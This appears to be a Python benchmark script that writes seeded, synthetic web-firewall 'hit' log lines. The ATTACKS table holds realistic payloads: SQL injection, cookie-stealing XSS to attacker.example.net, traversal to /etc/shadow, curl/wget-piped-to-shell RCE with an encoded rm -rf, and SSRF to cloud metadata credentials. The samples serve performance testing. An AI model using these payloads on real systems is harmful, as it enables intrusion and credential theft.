"""Realistic native hit lines for the benchmarks: ~800 bytes each, as a filter node
writes them under attack.

Every line is different where real lines differ: unique ``ids`` (a request id and an
Elasticsearch-like document id), a payload of real attack size taken from several CRS
families (SQL injection, XSS, path traversal, RCE, SSRF), IPv4 and IPv6 clients (one in
eight IPv6, some IPv4-mapped), several domains, paths, points, methods, block statuses,
stamps and RFC 3339 times. The generator is seeded, so two runs read the same bytes.

``python benchmarks/lines.py N FILE`` writes N lines; ``realistic_hit_line(n, rng)`` is
one line.
"""

from __future__ import annotations

import random
import sys
from pathlib import Path

import orjson

DOMAINS = (
    "shop.example.com",
    "www.shop.example.com",
    "api.example.com",
    "login.example.org",
    "cdn.example.net",
    "admin.example.com",
)
PATHS = (
    "/",
    "/search",
    "/api/v2/orders",
    "/api/v2/users/profile",
    "/wp-login.php",
    "/cart/checkout",
    "/static/app.js",
    "/graphql",
)
POINTS = (
    ["get", "id"],
    ["get", "q"],
    ["post", "form_urlencoded", "username"],
    ["post", "json_doc", "hash", "query"],
    ["header", "USER-AGENT"],
    ["header", "REFERER"],
    ["uri"],
    ["cookie", "session"],
)
#: (attack_type, payload templates of real size; {n} makes each unique)
ATTACKS = (
    (
        "sqli",
        "1' UNION SELECT username,password,email,NULL,NULL FROM users WHERE id={n} "
        "AND 1=1 ORDER BY 3-- -' OR '1'='1' /*!50000UNION*/ SELECT table_name FROM "
        "information_schema.tables LIMIT {n},1",
    ),
    (
        "xss",
        "\"><script>fetch('https://attacker.example.net/c?d='+encodeURIComponent("
        "document.cookie)+'&n={n}')</script><img src=x onerror=alert(document.domain)>"
        "<svg/onload=eval(atob('YWxlcnQoMSk='))>",
    ),
    (
        "ptrav",
        "../../../../../../../../etc/passwd%00.png?file=....//....//....//etc/shadow"
        "&n={n}&include=php://filter/convert.base64-encode/resource=/var/www/config.php",
    ),
    (
        "rce",
        ";curl -s http://198.51.100.7/x.sh|sh;wget -qO- http://198.51.100.7/{n}|bash "
        "$(echo cm0gLXJmIC90bXAvKg==|base64 -d) `id` && cat /proc/self/environ",
    ),
    (
        "ssrf",
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/role-{n}"
        "?redirect=gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*/1%20*%20*%20*%20*%20sh%22",
    ),
)
BLOCK_STATUSES = ("blocked", "monitored", "blocked", "blocked", "passed")
METHODS = ("GET", "POST", "GET", "PUT")
COUNTRIES = ("DE", "US", "BR", None, "NL", "SG")


def client_address(n: int, rng: random.Random) -> str:
    """One client in eight is IPv6, one in thirty-two an IPv4-mapped IPv6 address."""
    if n % 32 == 7:
        return f"::ffff:203.0.{rng.randrange(256)}.{rng.randrange(1, 255)}"
    if n % 8 == 3:
        return f"2001:db8:{rng.randrange(65536):x}:{rng.randrange(65536):x}::{n % 65536:x}"
    octets = (rng.randrange(1, 224), rng.randrange(256), rng.randrange(256), rng.randrange(1, 255))
    return ".".join(map(str, octets))


def request_id(rng: random.Random) -> str:
    """A request id as a node writes it: a UUID's 36 characters."""
    hexa = f"{rng.getrandbits(128):032x}"
    return f"{hexa[:8]}-{hexa[8:12]}-{hexa[12:16]}-{hexa[16:20]}-{hexa[20:]}"


def realistic_hit_line(n: int, rng: random.Random) -> bytes:
    """One native hit line (without its newline), ~800 bytes, unique by ``n``."""
    attack_type, template = ATTACKS[n % len(ATTACKS)]
    second = 1_750_000_000 + n // 50
    stamps = sorted(rng.sample(range(1000, 60000), rng.randrange(1, 5)))
    return orjson.dumps(
        {
            "event": "hit",
            "time": f"2025-06-15T{second // 3600 % 24:02d}:{second // 60 % 60:02d}:"
            f"{second % 60:02d}Z",
            "logged_at": f"2025-06-15T{second // 3600 % 24:02d}:{second // 60 % 60:02d}:"
            f"{second % 60:02d}.{rng.randrange(1_000_000):06d}Z",
            "ids": [f"hits_production_{n % 9000 + 1000}_202506_v_1", request_id(rng)],
            "domain": DOMAINS[n % len(DOMAINS)],
            "method": METHODS[n % len(METHODS)],
            "path": PATHS[rng.randrange(len(PATHS))],
            "point": POINTS[n % len(POINTS)],
            "payloads": [template.format(n=n)],
            "attack_type": attack_type,
            "block_status": BLOCK_STATUSES[n % len(BLOCK_STATUSES)],
            "client": {
                "addr": client_address(n, rng),
                "port": rng.randrange(1024, 65536),
                "country": COUNTRIES[n % len(COUNTRIES)],
                "datacenter": "unknown",
                "tor": "none",
            },
            "response": {
                "status": 403 if n % 5 else 200,
                "length": rng.randrange(100, 20000),
                "time_ms": rng.randrange(1, 900),
            },
            "detection": {
                "anomality": rng.random(),
                "heur_distance": rng.random() * 50,
                "probability": rng.random() * 50,
                "stamps": stamps,
                "regex": [rng.randrange(1, 500)] if n % 3 == 0 else [],
            },
        }
    )


def write_realistic_lines(path: Path, count: int, seed: int = 11) -> int:
    """Writes ``count`` lines to ``path``; returns its size in bytes."""
    rng = random.Random(seed)
    with path.open("wb") as out:
        for n in range(count):
            out.write(realistic_hit_line(n, rng) + b"\n")
    return path.stat().st_size


if __name__ == "__main__":
    total = write_realistic_lines(Path(sys.argv[2]), int(sys.argv[1]))
    print(f"{total / int(sys.argv[1]):.0f} bytes a line")
